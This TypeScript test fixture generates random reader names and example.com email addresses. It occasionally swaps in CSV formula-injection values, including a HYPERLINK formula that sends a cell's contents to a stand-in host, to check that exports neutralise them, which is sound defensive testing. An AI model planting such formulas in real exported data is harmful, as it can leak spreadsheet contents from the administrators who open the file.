import type { Chance } from "../../test/random.ts";

const firstNames = [
  "Ada",
  "Amir",
  "Anna",
  "Bea",
  "Björn",
  "Chloé",
  "Dara",
  "Emma",
  "Farid",
  "Greta",
  "Hugo",
  "Ines",
  "Jonas",
  "Kofi",
  "Lena",
  "Li",
  "Maja",
  "Noah",
  "Olga",
  "Pablo",
  "Qadira",
  "Ray",
  "Siobhán",
  "Tomás",
  "Uma",
  "Vera",
  "Wei",
  "Ximena",
  "Yusuf",
  "Zoë",
] as const;

const lastNames = [
  "Ahmed",
  "Andersson",
  "Baker",
  "Costa",
  "Dubois",
  "Ek",
  "Fischer",
  "García",
  "Haddad",
  "Ito",
  "Jansen",
  "Kowalska",
  "Lindqvist",
  "Müller",
  "Nguyen",
  "O'Brien",
  "Okafor",
  "Petrov",
  "Rossi",
  "Silva",
  "Šimić",
  "Tanaka",
  "Usman",
  "van Dijk",
  "Weber",
  "Yılmaz",
  "Zhang",
] as const;

/** What people type who would like an admin's spreadsheet to do something; a CSV must not let it. */
const formulas = [
  '=HYPERLINK("https://example.com/?"&A1,"here")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  '",=1+1,"',
] as const;

export type Names = { email: string; emailKey: string; firstName: string | null; lastName: string | null };

/** The names of the reader with this number, whose address nobody else has. One in a thousand is a formula. */
export function namesOf(number: number, { next, pick }: Chance): Names {
  const [first, last] = [pick(firstNames), pick(lastNames)];
  const plain = `${first}.${last}`.normalize("NFD").replaceAll(/[^A-Za-z.]/g, "");
  const typed = `${next() < 0.1 ? plain : plain.toLowerCase()}.${number.toString(36)}`;
  const email = `${typed}@${pick(["example.com", "example.com", "example.net", "example.org"])}`;
  return {
    email,
    emailKey: email.toLowerCase(),
    firstName: next() < 0.001 ? pick(formulas) : next() < 0.2 ? null : first,
    lastName: next() < 0.35 ? null : last,
  };
}
